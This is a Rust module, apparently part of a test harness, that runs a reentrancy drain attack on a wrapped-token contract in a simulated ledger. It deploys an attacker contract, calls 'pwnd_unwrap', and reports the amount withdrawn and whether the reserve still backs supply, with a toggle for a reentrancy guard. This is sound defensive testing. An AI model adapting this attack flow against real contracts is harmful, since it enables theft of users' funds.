//! Reentrant unwrap drain against one ledger configuration
//!
//! Every holder wraps `stake`, then holder 1 hands its units to an attacker
//! contract it owns and triggers `pwnd_unwrap`. The outcome reports how much
//! the attacker walked away with and whether the reserve still covers supply.

use anyhow::{ensure, Result};
use reentrancy_attacker::drain::ReentrancyAttacker;
use serde::Serialize;
use tracing::{info, warn};
use wrapped_config::Config;
use wrapped_report::{AccountReport, TokenReport};

use crate::cli::AttackArgs;
use crate::session::Session;

#[derive(Debug, Serialize)]
pub struct AttackOutcome {
    pub ordering: String,
    pub guard: bool,
    pub stake: u64,
    pub reentries: u32,
    pub withdrawn: u64,
    pub before: TokenReport,
    pub after: TokenReport,
    pub owner: AccountReport,
    pub holders: Vec<AccountReport>,
    pub backed: bool,
}

impl AttackOutcome {
    /// Lamports taken beyond the attacker's own stake
    pub fn excess(&self) -> u64 {
        self.withdrawn.saturating_sub(self.stake)
    }
}

pub fn run(config: &Config, args: &AttackArgs) -> Result<AttackOutcome> {
    ensure!(
        config.holder_lamports >= args.stake,
        "each holder has {} lamports, cannot stake {}",
        config.holder_lamports,
        args.stake
    );

    let settings = args.settings();
    let mut session = Session::new(config, settings, args.holders as usize)?;
    let token = session.token;

    for holder in session.holders.clone() {
        token.wrap(&mut session.rt, holder, args.stake)?;
    }

    let owner = session.holders[1];
    let attacker = ReentrancyAttacker::deploy(&mut session.rt, owner, &token, args.max_reentries)?;
    token.transfer(&mut session.rt, owner, attacker.address(), args.stake)?;
    let before = session.token_report()?;

    info!(
        ordering = ?settings.payout_ordering,
        guard = settings.reentrancy_guard,
        attacker = %attacker.address(),
        "launching pwnd_unwrap({})",
        args.stake
    );
    attacker.pwnd_unwrap(&mut session.rt, owner, args.stake)?;

    let reentries = attacker.state(&session.rt)?.reentries;
    let withdrawn = attacker.withdraw(&mut session.rt, owner)?;
    let after = session.token_report()?;
    let backed = token.check_backing(&session.rt).is_ok();

    if backed {
        info!(withdrawn, reentries, "reserve still equals total supply");
    } else {
        warn!(
            withdrawn,
            reentries,
            supply = after.total_supply.raw,
            reserve = after.reserve.raw,
            "reserve no longer backs total supply"
        );
    }

    Ok(AttackOutcome {
        ordering: format!("{:?}", settings.payout_ordering),
        guard: settings.reentrancy_guard,
        stake: args.stake,
        reentries,
        withdrawn,
        before,
        after,
        owner: session.account_report("attacker owner", owner)?,
        holders: session.holder_reports()?,
        backed,
    })
}
